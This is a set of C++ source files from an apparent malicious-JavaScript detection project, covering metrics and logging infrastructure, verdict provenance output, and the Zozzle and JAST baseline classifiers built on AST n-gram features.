  bool any = false;
  for (const auto& c : cells_) {
    if (!c.any.load(std::memory_order_relaxed)) continue;
    const double v = c.max.load(std::memory_order_relaxed);
    best = any ? std::max(best, v) : v;
    any = true;
  }
  return best;
}

void Summary::reset() noexcept {
  for (auto& c : cells_) {
    c.count.store(0, std::memory_order_relaxed);
    c.sum.store(0.0, std::memory_order_relaxed);
    c.sumsq.store(0.0, std::memory_order_relaxed);
    c.min.store(0.0, std::memory_order_relaxed);
    c.max.store(0.0, std::memory_order_relaxed);
    c.any.store(false, std::memory_order_relaxed);
  }
}

// ---------------------------------------------------------------------------
// Histogram

Histogram::Histogram(std::vector<double> upper_bounds)
    : bounds_(std::move(upper_bounds)) {
  if (!std::is_sorted(bounds_.begin(), bounds_.end())) {
    throw std::logic_error("Histogram bounds must be sorted ascending");
  }
  for (auto& c : cells_) {
    c.buckets = std::vector<std::atomic<std::uint64_t>>(bounds_.size() + 1);
  }
}

void Histogram::observe(double v) noexcept {
  if (!metrics_enabled()) return;
  Cell& c = cells_[detail::shard_index()];
  // Bounds are inclusive upper limits (v <= bound), Prometheus "le" style.
  const std::size_t b = static_cast<std::size_t>(
      std::lower_bound(bounds_.begin(), bounds_.end(), v) - bounds_.begin());
  c.buckets[b].fetch_add(1, std::memory_order_relaxed);
  c.count.fetch_add(1, std::memory_order_relaxed);
  detail::atomic_add(c.sum, v);
}

std::vector<std::uint64_t> Histogram::bucket_counts() const {
  std::vector<std::uint64_t> out(bounds_.size() + 1, 0);
  for (const auto& c : cells_) {
    for (std::size_t b = 0; b < out.size(); ++b) {
      out[b] += c.buckets[b].load(std::memory_order_relaxed);
    }
  }
  return out;
}

std::uint64_t Histogram::count() const noexcept {
  std::uint64_t total = 0;
  for (const auto& c : cells_) {
    total += c.count.load(std::memory_order_relaxed);
  }
  return total;
}

double Histogram::sum() const noexcept {
  double total = 0.0;
  for (const auto& c : cells_) total += c.sum.load(std::memory_order_relaxed);
  return total;
}

void Histogram::reset() noexcept {
  for (auto& c : cells_) {
    for (auto& b : c.buckets) b.store(0, std::memory_order_relaxed);
    c.count.store(0, std::memory_order_relaxed);
    c.sum.store(0.0, std::memory_order_relaxed);
  }
}

// ---------------------------------------------------------------------------
// Registry

Registry& Registry::global() {
  static Registry r;
  return r;
}

Registry::Entry* Registry::find_or_create(std::string_view name,
                                          const Labels& labels,
                                          MetricKind kind,
                                          const MetricOptions& opts,
                                          std::vector<double> bounds) {
  std::lock_guard<std::mutex> lock(mu_);
  for (const auto& e : entries_) {
    if (e->name == name && e->labels == labels) {
      if (e->kind != kind) {
        throw std::logic_error("metric '" + std::string(name) +
                               "' registered with a different kind");
      }
      return e.get();
    }
  }
  auto e = std::make_unique<Entry>();
  e->name = std::string(name);
  e->labels = labels;
  e->kind = kind;
  e->opts = opts;
  switch (kind) {
    case MetricKind::kCounter: e->counter = std::make_unique<Counter>(); break;
    case MetricKind::kGauge: e->gauge = std::make_unique<Gauge>(); break;
    case MetricKind::kSummary: e->summary = std::make_unique<Summary>(); break;
    case MetricKind::kHistogram:
      e->histogram = std::make_unique<Histogram>(std::move(bounds));
      break;
  }
  entries_.push_back(std::move(e));
  return entries_.back().get();
}

Counter* Registry::counter(std::string_view name, const Labels& labels,
                           const MetricOptions& opts) {
  return find_or_create(name, labels, MetricKind::kCounter, opts)->counter.get();
}

Gauge* Registry::gauge(std::string_view name, const Labels& labels,
                       const MetricOptions& opts) {
  return find_or_create(name, labels, MetricKind::kGauge, opts)->gauge.get();
}

Summary* Registry::summary(std::string_view name, const Labels& labels,
                           const MetricOptions& opts) {
  return find_or_create(name, labels, MetricKind::kSummary, opts)->summary.get();
}

Histogram* Registry::histogram(std::string_view name,
                               std::vector<double> bounds,
                               const Labels& labels,
                               const MetricOptions& opts) {
  return find_or_create(name, labels, MetricKind::kHistogram, opts,
                        std::move(bounds))
      ->histogram.get();
}

std::vector<const Registry::Entry*> Registry::sorted_entries() const {
  std::vector<const Entry*> out;
  {
    std::lock_guard<std::mutex> lock(mu_);
    out.reserve(entries_.size());
    for (const auto& e : entries_) out.push_back(e.get());
  }
  std::sort(out.begin(), out.end(), [](const Entry* a, const Entry* b) {
    if (a->name != b->name) return a->name < b->name;
    return a->labels < b->labels;
  });
  return out;
}

namespace {

const char* unit_name(Unit u) {
  switch (u) {
    case Unit::kCount: return "count";
    case Unit::kMillis: return "ms";
    case Unit::kBytes: return "bytes";
  }
  return "count";
}

}  // namespace

std::vector<MetricSample> Registry::samples() const {
  std::vector<MetricSample> out;
  for (const Entry* e : sorted_entries()) {
    MetricSample s;
    s.name = e->name;
    s.labels = e->labels;
    s.kind = e->kind;
    s.unit = e->opts.unit;
    s.schedule_dependent = e->opts.schedule_dependent;
    s.help = e->opts.help;
    switch (e->kind) {
      case MetricKind::kCounter:
        s.value = static_cast<double>(e->counter->value());
        break;
      case MetricKind::kGauge:
        s.value = static_cast<double>(e->gauge->value());
        break;
      case MetricKind::kSummary:
        s.count = e->summary->count();
        s.sum = e->summary->sum();
        break;
      case MetricKind::kHistogram:
        s.count = e->histogram->count();
        s.sum = e->histogram->sum();
        s.bounds = e->histogram->bounds();
        s.buckets = e->histogram->bucket_counts();
        break;
    }
    out.push_back(std::move(s));
  }
  return out;
}

std::string Registry::export_json(bool deterministic_only) const {
  JsonWriter w;
  w.begin_object();
  w.key("metrics");
  w.begin_array();
  for (const Entry* e : sorted_entries()) {
    if (deterministic_only &&
        (e->opts.unit == Unit::kMillis || e->opts.schedule_dependent)) {
      continue;
    }
    w.begin_object();
    w.kv("name", e->name);
    if (!e->labels.empty()) {
      w.key("labels");
      w.begin_object();
      for (const auto& [k, v] : e->labels) w.kv(k, v);
      w.end_object();
    }
    w.kv("unit", unit_name(e->opts.unit));
    switch (e->kind) {
      case MetricKind::kCounter:
        w.kv("type", "counter");
        w.kv("value", e->counter->value());
        break;
      case MetricKind::kGauge:
        w.kv("type", "gauge");
        w.kv("value", e->gauge->value());
        break;
      case MetricKind::kSummary: {
        w.kv("type", "summary");
        const Summary& s = *e->summary;
        w.kv("count", s.count());
        if (!deterministic_only) {
          w.kv("sum", s.sum());
          w.kv("mean", s.mean());
          w.kv("stddev", s.stddev());
          w.kv("min", s.min());
          w.kv("max", s.max());
        }
        break;
      }
      case MetricKind::kHistogram: {
        w.kv("type", "histogram");
        const Histogram& h = *e->histogram;
        w.kv("count", h.count());
        w.kv("sum", h.sum());
        w.key("bounds");
        w.begin_array();
        for (const double b : h.bounds()) w.value(b);
        w.end_array();
        w.key("buckets");
        w.begin_array();
        for (const std::uint64_t c : h.bucket_counts()) w.value(c);
        w.end_array();
        break;
      }
    }
    w.end_object();
  }
  w.end_array();
  w.end_object();
  return w.str();
}

std::string Registry::to_json() const { return export_json(false); }

std::string Registry::deterministic_json() const { return export_json(true); }

std::string Registry::to_table() const {
  std::string out;
  auto line = [&out](const std::string& name, const std::string& labels,
                     const std::string& value) {
    char buf[256];
    std::snprintf(buf, sizeof buf, "%-40s %-36s %s\n", name.c_str(),
                  labels.c_str(), value.c_str());
    out += buf;
  };
  line("name", "labels", "value");
  for (const Entry* e : sorted_entries()) {
    char value[160];
    switch (e->kind) {
      case MetricKind::kCounter:
        std::snprintf(value, sizeof value, "%llu",
                      static_cast<unsigned long long>(e->counter->value()));
        break;
      case MetricKind::kGauge:
        std::snprintf(value, sizeof value, "%lld",
                      static_cast<long long>(e->gauge->value()));
        break;
      case MetricKind::kSummary:
        std::snprintf(value, sizeof value,
                      "n=%llu mean=%.3f%s stddev=%.3f min=%.3f max=%.3f",
                      static_cast<unsigned long long>(e->summary->count()),
                      e->summary->mean(), unit_name(e->opts.unit),
                      e->summary->stddev(), e->summary->min(),
                      e->summary->max());
        break;
      case MetricKind::kHistogram:
        std::snprintf(value, sizeof value, "n=%llu sum=%.1f buckets=%zu",
                      static_cast<unsigned long long>(e->histogram->count()),
                      e->histogram->sum(),
                      e->histogram->bounds().size() + 1);
        break;
    }
    line(e->name, labels_to_string(e->labels), value);
  }
  return out;
}

void Registry::reset() {
  std::lock_guard<std::mutex> lock(mu_);
  for (const auto& e : entries_) {
    switch (e->kind) {
      case MetricKind::kCounter: e->counter->reset(); break;
      case MetricKind::kGauge: e->gauge->reset(); break;
      case MetricKind::kSummary: e->summary->reset(); break;
      case MetricKind::kHistogram: e->histogram->reset(); break;
    }
  }
}

}  // namespace jsrev::obs
