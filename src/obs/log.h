// Structured, leveled, rate-limited logging for long-lived processes.
//
// Every record is one JSON object on one line (JSON-lines), written to
// stderr by default: {"ts_ms":...,"level":"warn","event":"serve.slow",
// ...caller key/values...}. Machine-parseable by construction — the admin
// plane's request-correlation story depends on grepping a request_id across
// log records, trace spans, and wire frames, so free-text fprintf diagnostics
// in serving paths are replaced by these records.
//
// Severity is a global knob (set_log_level / --log-level): records below the
// active level cost one relaxed atomic load and a branch — cheap enough for
// per-request call sites.
//
// Rate limiting is per call site: a static LogRateLimit at the site is a
// token bucket (burst + steady refill); when the bucket is empty the record
// is dropped and counted, and the first record after a dry spell carries a
// "suppressed":N member so operators can see what they missed. A daemon
// being hammered with malformed frames logs a bounded stream, not one line
// per attack packet.
//
// The sink is replaceable (tests capture lines; a supervisor could forward
// them); the default sink serializes whole lines under a mutex so concurrent
// connection threads never interleave bytes.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <string>
#include <string_view>

namespace jsrev::obs {

enum class LogLevel : int { kDebug = 0, kInfo = 1, kWarn = 2, kError = 3 };

const char* log_level_name(LogLevel level) noexcept;
/// Parses "debug" / "info" / "warn" / "error"; false on anything else.
bool log_level_from_name(std::string_view name, LogLevel* out) noexcept;

/// Global severity floor (default kInfo). Records below it are dropped
/// before any formatting happens.
void set_log_level(LogLevel level) noexcept;
LogLevel log_level() noexcept;

/// True when a record at `level` would be emitted (call-site fast path).
bool log_enabled(LogLevel level) noexcept;

/// Replaces the line sink. An empty function restores the default
/// (stderr, one line per record, whole-line atomic under a mutex).
/// The sink receives the serialized record without a trailing newline.
void set_log_sink(std::function<void(std::string_view)> sink);

/// Per-call-site token bucket. Intended usage is one static instance per
/// site:  static obs::LogRateLimit rl(/*per_sec=*/5.0, /*burst=*/10);
class LogRateLimit {
 public:
  constexpr LogRateLimit(double per_sec, double burst) noexcept
      : per_sec_(per_sec), burst_(burst) {}

  /// Takes one token. Returns false (drop the record) when the bucket is
  /// empty; otherwise true, and `*suppressed_out` reports how many records
  /// this site dropped since the last emitted one (0 in steady state).
  bool allow(std::uint64_t* suppressed_out) noexcept;

  std::uint64_t total_suppressed() const noexcept {
    return total_suppressed_.load(std::memory_order_relaxed);
  }

 private:
  const double per_sec_;
  const double burst_;
  std::atomic<bool> init_{false};
  std::atomic<std::int64_t> last_refill_us_{0};
  std::atomic<std::int64_t> tokens_milli_{0};  // tokens * 1000, for atomics
  std::atomic<std::uint64_t> suppressed_{0};   // since last emitted record
  std::atomic<std::uint64_t> total_suppressed_{0};
};

/// Builder for one record. Constructed with the level and an "event" name
/// (dotted, stable — the grep handle); kv() appends members; the destructor
/// serializes and emits. When the level is below the floor (or the rate
/// limit said no) every kv() is a no-op and nothing is formatted.
///
///   obs::LogRecord(obs::LogLevel::kWarn, "serve.slow_request")
///       .kv("request_id", id).kv("latency_ms", ms);
class LogRecord {
 public:
  LogRecord(LogLevel level, std::string_view event);
  /// Rate-limited form; a dropped record is counted in `limit`.
  LogRecord(LogLevel level, std::string_view event, LogRateLimit& limit);
  ~LogRecord();

  LogRecord(const LogRecord&) = delete;
  LogRecord& operator=(const LogRecord&) = delete;

  bool enabled() const noexcept { return enabled_; }

  LogRecord& kv(std::string_view key, std::string_view value);
  LogRecord& kv(std::string_view key, const char* value) {
    return kv(key, std::string_view(value));
  }
  LogRecord& kv(std::string_view key, bool value);
  LogRecord& kv(std::string_view key, double value);
  LogRecord& kv(std::string_view key, std::int64_t value);
  LogRecord& kv(std::string_view key, std::uint64_t value);
  LogRecord& kv(std::string_view key, int value) {
    return kv(key, static_cast<std::int64_t>(value));
  }
  LogRecord& kv(std::string_view key, unsigned value) {
    return kv(key, static_cast<std::uint64_t>(value));
  }

 private:
  void begin(LogLevel level, std::string_view event,
             std::uint64_t suppressed);
  void raw_key(std::string_view key);

  bool enabled_ = false;
  std::string line_;
};

}  // namespace jsrev::obs
