#include "obs/provenance.h"

#include "obs/json.h"

namespace jsrev::obs {

std::string VerdictProvenance::to_json() const {
  JsonWriter w;
  w.begin_object();
  w.kv("detector", detector);
  if (request_id != 0) {
    w.kv("request_id", static_cast<std::uint64_t>(request_id));
  }
  w.kv("verdict", verdict);
  w.kv("verdict_label", verdict == 1   ? "malicious"
                        : verdict == 0 ? "benign"
                                       : "unclassified");
  w.kv("source_bytes", source_bytes);
  w.kv("parse_failed", parse_failed);
  if (parse_failed) {
    w.kv("parse_error", parse_error);
    w.kv("parse_limit_trip", parse_limit_trip);
  }
  w.kv("path_count", path_count);
  w.kv("known_path_count", known_path_count);
  w.kv("paths_outside_clusters", paths_outside_clusters);
  w.kv("train_clusters_removed", train_clusters_removed);
  w.key("cluster_attention");
  w.begin_array();
  for (const ClusterAttention& c : cluster_attention) {
    w.begin_object();
    w.kv("feature_index", c.feature_index);
    w.kv("from_benign", c.from_benign);
    w.kv("mass", c.mass);
    w.end_object();
  }
  w.end_array();
  w.kv("lint_malice_diags", lint_malice_diags);
  w.kv("lint_hygiene_diags", lint_hygiene_diags);
  w.key("lint_rules_fired");
  w.begin_array();
  for (const std::string& r : lint_rules_fired) w.value(r);
  w.end_array();
  w.key("stage_ms");
  w.begin_object();
  w.kv("parse", stage_ms.parse);
  w.kv("enhanced_ast", stage_ms.enhanced_ast);
  w.kv("path_traversal", stage_ms.path_traversal);
  w.kv("embedding", stage_ms.embedding);
  w.kv("lint", stage_ms.lint);
  w.kv("classify", stage_ms.classify);
  w.end_object();
  w.end_object();
  return w.str();
}

}  // namespace jsrev::obs
