#include "baselines/zozzle.h"

#include <algorithm>
#include <stdexcept>

#include "js/printer.h"
#include "js/visitor.h"
#include "util/hash.h"

namespace jsrev::detect {
namespace {

using js::Node;
using js::NodeKind;

const char* context_of(const Node* n) {
  for (const Node* p = n->parent; p != nullptr; p = p->parent) {
    switch (p->kind) {
      case NodeKind::kFunctionDeclaration:
      case NodeKind::kFunctionExpression:
      case NodeKind::kArrowFunctionExpression:
        return "function";
      case NodeKind::kIfStatement:
      case NodeKind::kConditionalExpression:
      case NodeKind::kSwitchStatement:
        return "if";
      case NodeKind::kForStatement:
      case NodeKind::kForInStatement:
      case NodeKind::kWhileStatement:
      case NodeKind::kDoWhileStatement:
        return "loop";
      case NodeKind::kTryStatement:
        return "try";
      default:
        break;
    }
  }
  return "script";
}

bool interesting(const Node* n) {
  switch (n->kind) {
    case NodeKind::kCallExpression:
    case NodeKind::kNewExpression:
    case NodeKind::kMemberExpression:
    case NodeKind::kAssignmentExpression:
    case NodeKind::kVariableDeclaration:
    case NodeKind::kBinaryExpression:
      return true;
    default:
      return false;
  }
}

}  // namespace

Zozzle::Zozzle(ZozzleConfig cfg) : cfg_(cfg) {}

std::vector<std::string> Zozzle::context_features(
    const analysis::ScriptAnalysis& analysis) {
  std::vector<std::string> feats;
  js::walk(analysis.root(), [&feats](const Node* n) {
    if (interesting(n)) {
      std::string text = js::print(n, js::PrintStyle::kMinified);
      if (text.size() > 64) text.resize(64);  // cap pathological nodes
      feats.push_back(std::string(context_of(n)) + ":" + text);
    }
    return true;
  });
  return feats;
}

std::vector<std::string> Zozzle::context_features(const std::string& source) {
  const analysis::ScriptAnalysis analysis(source);
  if (analysis.parse_failed()) {
    throw std::runtime_error(analysis.parse_error());
  }
  return context_features(analysis);
}

std::vector<double> Zozzle::featurize(
    const analysis::ScriptAnalysis& analysis) const {
  std::vector<double> f(cfg_.dims, 0.0);
  for (const std::string& feat : context_features(analysis)) {
    f[fnv1a64(feat) % cfg_.dims] = 1.0;  // binary presence
  }
  return f;
}

void Zozzle::train(const dataset::Corpus& corpus) {
  ml::Matrix x(corpus.samples.size(), cfg_.dims);
  std::vector<int> y(corpus.samples.size());
  for (std::size_t i = 0; i < corpus.samples.size(); ++i) {
    const analysis::ScriptAnalysis analysis(corpus.samples[i].source);
    if (!analysis.parse_failed()) {
      const std::vector<double> f = featurize(analysis);
      std::copy(f.begin(), f.end(), x.row(i));
    }
    y[i] = corpus.samples[i].label;
  }
  nb_.fit(x, y);
}

int Zozzle::classify(const std::string& source) const {
  return classify(analysis::ScriptAnalysis(source));
}

int Zozzle::classify(const analysis::ScriptAnalysis& analysis) const {
  return record_verdict(analysis.classify_or_malicious(
      [&] { return nb_.predict(featurize(analysis).data()); }));
}

}  // namespace jsrev::detect
