#include "baselines/zozzle.h"

#include <algorithm>

#include "js/parser.h"
#include "js/printer.h"
#include "js/visitor.h"
#include "util/hash.h"

namespace jsrev::detect {
namespace {

using js::Node;
using js::NodeKind;

const char* context_of(const Node* n) {
  for (const Node* p = n->parent; p != nullptr; p = p->parent) {
    switch (p->kind) {
      case NodeKind::kFunctionDeclaration:
      case NodeKind::kFunctionExpression:
      case NodeKind::kArrowFunctionExpression:
        return "function";
      case NodeKind::kIfStatement:
      case NodeKind::kConditionalExpression:
      case NodeKind::kSwitchStatement:
        return "if";
      case NodeKind::kForStatement:
      case NodeKind::kForInStatement:
      case NodeKind::kWhileStatement:
      case NodeKind::kDoWhileStatement:
        return "loop";
      case NodeKind::kTryStatement:
        return "try";
      default:
        break;
    }
  }
  return "script";
}

bool interesting(const Node* n) {
  switch (n->kind) {
    case NodeKind::kCallExpression:
    case NodeKind::kNewExpression:
    case NodeKind::kMemberExpression:
    case NodeKind::kAssignmentExpression:
    case NodeKind::kVariableDeclaration:
    case NodeKind::kBinaryExpression:
      return true;
    default:
      return false;
  }
}

}  // namespace

Zozzle::Zozzle(ZozzleConfig cfg) : cfg_(cfg) {}

std::vector<std::string> Zozzle::context_features(const std::string& source) {
  std::vector<std::string> feats;
  const js::Ast ast = js::parse(source);
  js::walk(const_cast<const Node*>(ast.root), [&feats](const Node* n) {
    if (interesting(n)) {
      std::string text = js::print(n, js::PrintStyle::kMinified);
      if (text.size() > 64) text.resize(64);  // cap pathological nodes
      feats.push_back(std::string(context_of(n)) + ":" + text);
    }
    return true;
  });
  return feats;
}

std::vector<double> Zozzle::featurize(const std::string& source) const {
  std::vector<double> f(cfg_.dims, 0.0);
  for (const std::string& feat : context_features(source)) {
    f[fnv1a64(feat) % cfg_.dims] = 1.0;  // binary presence
  }
  return f;
}

void Zozzle::train(const dataset::Corpus& corpus) {
  ml::Matrix x(corpus.samples.size(), cfg_.dims);
  std::vector<int> y(corpus.samples.size());
  for (std::size_t i = 0; i < corpus.samples.size(); ++i) {
    std::vector<double> f;
    try {
      f = featurize(corpus.samples[i].source);
    } catch (const std::exception&) {
      f.assign(cfg_.dims, 0.0);
    }
    std::copy(f.begin(), f.end(), x.row(i));
    y[i] = corpus.samples[i].label;
  }
  nb_.fit(x, y);
}

int Zozzle::classify(const std::string& source) const {
  try {
    const std::vector<double> f = featurize(source);
    return nb_.predict(f.data());
  } catch (const std::exception&) {
    return 1;
  }
}

}  // namespace jsrev::detect
