// Hashed n-gram feature extraction shared by the baseline detectors.
//
// Token / node-kind sequences are mapped to a fixed-size feature vector via
// feature hashing (the standard trick all four baseline papers' pipelines
// rely on once vocabularies grow).
#pragma once

#include <cstdint>
#include <string>
#include <unordered_map>
#include <vector>

#include "util/hash.h"

namespace jsrev::detect {

/// Accumulates n-grams of string tokens into a hashed feature vector.
class NgramHasher {
 public:
  NgramHasher(int n, std::size_t dims) : n_(n), dims_(dims) {}

  /// Adds all n-grams of `tokens` into `features` (frequency counts).
  void accumulate(const std::vector<std::string>& tokens,
                  std::vector<double>& features) const {
    if (tokens.size() < static_cast<std::size_t>(n_)) return;
    for (std::size_t i = 0; i + static_cast<std::size_t>(n_) <= tokens.size();
         ++i) {
      std::uint64_t h = 1469598103934665603ULL;
      for (int j = 0; j < n_; ++j) {
        h = jsrev::hash_combine(h, jsrev::fnv1a64(tokens[i + static_cast<std::size_t>(j)]));
      }
      features[h % dims_] += 1.0;
    }
  }

  std::size_t dims() const { return dims_; }
  int n() const { return n_; }

 private:
  int n_;
  std::size_t dims_;
};

/// L2-normalizes a feature vector in place (stabilizes linear models on
/// scripts of very different lengths).
void l2_normalize(std::vector<double>& v);

/// Explicit n-gram vocabulary built from training data (the JAST/JSTAP
/// protocol): the most frequent n-grams become feature dimensions, and
/// n-grams unseen in training are DROPPED at inference time. This is the
/// behaviour that makes those detectors collapse when obfuscation replaces
/// the n-gram distribution wholesale — test vectors go near-zero.
class NgramVocab {
 public:
  NgramVocab(int n, std::size_t max_features)
      : n_(n), max_features_(max_features) {}

  /// Pass 1: count the n-grams of one training sequence.
  void count(const std::vector<std::string>& tokens);

  /// Freezes the vocabulary: keeps the `max_features` most frequent
  /// n-grams with count >= min_count. Call once after counting.
  void freeze(std::size_t min_count = 2);

  /// Number of feature dimensions (valid after freeze()).
  std::size_t dims() const { return index_.size(); }

  /// Adds the known n-grams of `tokens` into `features` (size dims()).
  void accumulate(const std::vector<std::string>& tokens,
                  std::vector<double>& features) const;

 private:
  std::uint64_t gram_hash(const std::vector<std::string>& tokens,
                          std::size_t start) const {
    std::uint64_t h = 1469598103934665603ULL;
    for (int j = 0; j < n_; ++j) {
      h = hash_combine(h, fnv1a64(tokens[start + static_cast<std::size_t>(j)]));
    }
    return h;
  }

  int n_;
  std::size_t max_features_;
  std::unordered_map<std::uint64_t, std::size_t> counts_;
  std::unordered_map<std::uint64_t, std::size_t> index_;
  bool frozen_ = false;
};

}  // namespace jsrev::detect
