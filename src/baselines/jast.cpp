#include "baselines/jast.h"

#include <algorithm>
#include <stdexcept>

#include "js/visitor.h"

namespace jsrev::detect {

Jast::Jast(JastConfig cfg) : cfg_(cfg), vocab_(cfg.n, cfg.dims) {
  ml::ForestConfig fc;
  fc.seed = cfg.seed;
  forest_ = ml::RandomForest(fc);
}

std::vector<std::string> Jast::unit_sequence(
    const analysis::ScriptAnalysis& analysis) {
  std::vector<std::string> units;
  js::walk_all(analysis.root(), [&units](const js::Node* n) {
    units.emplace_back(js::node_kind_name(n->kind));
  });
  return units;
}

std::vector<std::string> Jast::unit_sequence(const std::string& source) {
  const analysis::ScriptAnalysis analysis(source);
  if (analysis.parse_failed()) {
    throw std::runtime_error(analysis.parse_error());
  }
  return unit_sequence(analysis);
}

std::vector<double> Jast::featurize(
    const analysis::ScriptAnalysis& analysis) const {
  std::vector<double> f(vocab_.dims(), 0.0);
  vocab_.accumulate(unit_sequence(analysis), f);
  // JAST uses relative n-gram frequencies.
  double total = 0.0;
  for (const double v : f) total += v;
  if (total > 0) {
    for (double& v : f) v /= total;
  }
  return f;
}

void Jast::train(const dataset::Corpus& corpus) {
  // Pass 1: build the n-gram vocabulary from the training corpus.
  std::vector<std::vector<std::string>> sequences(corpus.samples.size());
  for (std::size_t i = 0; i < corpus.samples.size(); ++i) {
    const analysis::ScriptAnalysis analysis(corpus.samples[i].source);
    if (!analysis.parse_failed()) {
      sequences[i] = unit_sequence(analysis);
    }
    // unparseable sample contributes no n-grams
    vocab_.count(sequences[i]);
  }
  vocab_.freeze();

  // Pass 2: featurize and fit.
  ml::Matrix x(corpus.samples.size(), vocab_.dims());
  std::vector<int> y(corpus.samples.size());
  for (std::size_t i = 0; i < corpus.samples.size(); ++i) {
    std::vector<double> f(vocab_.dims(), 0.0);
    vocab_.accumulate(sequences[i], f);
    double total = 0.0;
    for (const double v : f) total += v;
    if (total > 0) {
      for (double& v : f) v /= total;
    }
    std::copy(f.begin(), f.end(), x.row(i));
    y[i] = corpus.samples[i].label;
  }
  forest_.fit(x, y);
}

int Jast::classify(const std::string& source) const {
  return classify(analysis::ScriptAnalysis(source));
}

int Jast::classify(const analysis::ScriptAnalysis& analysis) const {
  return record_verdict(analysis.classify_or_malicious(
      [&] { return forest_.predict(featurize(analysis).data()); }));
}

}  // namespace jsrev::detect
