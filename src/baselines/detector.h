// Common interface for full-script malicious-JavaScript detectors
// (JSRevealer and the four comparison baselines).
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "analysis/script_analysis.h"
#include "dataset/corpus.h"
#include "ml/metrics.h"
#include "obs/metrics.h"

namespace jsrev::detect {

class Detector {
 public:
  virtual ~Detector() = default;

  /// Trains the detector on a labeled corpus of JavaScript sources.
  virtual void train(const dataset::Corpus& corpus) = 0;

  /// Classifies one script: 1 = malicious, 0 = benign. Unparseable input is
  /// conventionally classified malicious (all compared tools reject it;
  /// the convention lives in analysis::ScriptAnalysis).
  virtual int classify(const std::string& source) const = 0;

  /// Shared-analysis overload: classifies from a pre-built ScriptAnalysis
  /// without re-running the frontend. The default delegates to the string
  /// path so detectors outside this repository stay source-compatible;
  /// in-tree detectors override it to consume `analysis` directly.
  virtual int classify(const analysis::ScriptAnalysis& analysis) const {
    return classify(analysis.source());
  }

  virtual std::string name() const = 0;

  /// Metrics over a labeled corpus. Virtual so detectors with a batch
  /// prediction path (JSRevealer fans out per row) can use it here.
  virtual ml::Metrics evaluate(const dataset::Corpus& corpus) const {
    std::vector<int> truth, pred;
    truth.reserve(corpus.samples.size());
    pred.reserve(corpus.samples.size());
    for (const auto& s : corpus.samples) {
      truth.push_back(s.label);
      pred.push_back(classify(s.source));
    }
    return ml::compute_metrics(truth, pred);
  }

  /// Metrics over a pre-analyzed corpus (the parse-once path: the harness
  /// analyzes each condition once and hands the same AnalyzedCorpus to
  /// every detector of a multi-detector table).
  virtual ml::Metrics evaluate(const analysis::AnalyzedCorpus& corpus) const {
    std::vector<int> pred;
    pred.reserve(corpus.size());
    for (const auto& script : corpus.scripts) {
      pred.push_back(classify(*script));
    }
    return ml::compute_metrics(corpus.labels, pred);
  }

 protected:
  /// Books one verdict into detector.verdicts{detector=name(),verdict=...}
  /// and returns it unchanged, so classify() bodies end with
  /// `return record_verdict(...)`. Counter handles resolve on first use
  /// (name() is not callable from the constructor) and are cached per
  /// detector instance.
  int record_verdict(int verdict) const {
    auto& slot = verdict == 0 ? benign_count_ : malicious_count_;
    obs::Counter* c = slot.load(std::memory_order_acquire);
    if (c == nullptr) {
      // Racing initializers all receive the same registry handle, so the
      // store order is immaterial.
      c = obs::metrics().counter(
          "detector.verdicts",
          {{"detector", name()},
           {"verdict", verdict == 0 ? "benign" : "malicious"}});
      slot.store(c, std::memory_order_release);
    }
    c->add();
    return verdict;
  }

 private:
  mutable std::atomic<obs::Counter*> benign_count_{nullptr};
  mutable std::atomic<obs::Counter*> malicious_count_{nullptr};
};

/// Builds the shared per-sample analyses of a corpus, forcing the parse in
/// parallel at `threads` width (0 = hardware concurrency). Derived analyses
/// (scopes, data flow, CFG, PDG) stay lazy: each is computed at most once,
/// by whichever consumer needs it first. `limits` bounds each script's
/// frontend resources; a script that trips a limit carries a parse failure
/// value and classifies as malicious, like any other unparseable input.
/// With `deobfuscate` every analysis statically normalizes its script
/// through the src/deob pipeline as part of the (parallel) parse, so all
/// detectors sharing the corpus consume the normalized form.
analysis::AnalyzedCorpus analyze_corpus(const dataset::Corpus& corpus,
                                        std::size_t threads = 0,
                                        js::ParseLimits limits = {},
                                        bool deobfuscate = false);

enum class BaselineKind { kCujo, kZozzle, kJast, kJstap };

inline constexpr BaselineKind kAllBaselines[] = {
    BaselineKind::kCujo, BaselineKind::kZozzle, BaselineKind::kJast,
    BaselineKind::kJstap};

std::string baseline_kind_name(BaselineKind k);

/// Factory. `seed` drives any stochastic training component.
std::unique_ptr<Detector> make_baseline(BaselineKind kind,
                                        std::uint64_t seed = 1);

}  // namespace jsrev::detect
