// Common interface for full-script malicious-JavaScript detectors
// (JSRevealer and the four comparison baselines).
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "dataset/corpus.h"
#include "ml/metrics.h"

namespace jsrev::detect {

class Detector {
 public:
  virtual ~Detector() = default;

  /// Trains the detector on a labeled corpus of JavaScript sources.
  virtual void train(const dataset::Corpus& corpus) = 0;

  /// Classifies one script: 1 = malicious, 0 = benign. Unparseable input is
  /// conventionally classified malicious (all compared tools reject it).
  virtual int classify(const std::string& source) const = 0;

  virtual std::string name() const = 0;

  /// Metrics over a labeled corpus. Virtual so detectors with a batch
  /// prediction path (JSRevealer fans out per row) can use it here.
  virtual ml::Metrics evaluate(const dataset::Corpus& corpus) const {
    std::vector<int> truth, pred;
    truth.reserve(corpus.samples.size());
    pred.reserve(corpus.samples.size());
    for (const auto& s : corpus.samples) {
      truth.push_back(s.label);
      pred.push_back(classify(s.source));
    }
    return ml::compute_metrics(truth, pred);
  }
};

enum class BaselineKind { kCujo, kZozzle, kJast, kJstap };

inline constexpr BaselineKind kAllBaselines[] = {
    BaselineKind::kCujo, BaselineKind::kZozzle, BaselineKind::kJast,
    BaselineKind::kJstap};

std::string baseline_kind_name(BaselineKind k);

/// Factory. `seed` drives any stochastic training component.
std::unique_ptr<Detector> make_baseline(BaselineKind kind,
                                        std::uint64_t seed = 1);

}  // namespace jsrev::detect
