// JAST baseline: n-grams of AST syntactic units + random forest.
//
// Fass et al.'s JAST traverses the AST in depth-first order and learns
// frequencies of fixed-length n-grams of node kinds with a random forest.
#pragma once

#include "baselines/detector.h"
#include "baselines/ngram.h"
#include "ml/decision_tree.h"

namespace jsrev::detect {

struct JastConfig {
  int n = 8;                 // n-gram length over node kinds
  std::size_t dims = 4096;   // max n-gram features kept from training
  std::uint64_t seed = 13;
};

class Jast final : public Detector {
 public:
  explicit Jast(JastConfig cfg = {});

  void train(const dataset::Corpus& corpus) override;
  int classify(const std::string& source) const override;
  int classify(const analysis::ScriptAnalysis& analysis) const override;
  std::string name() const override { return "JAST"; }

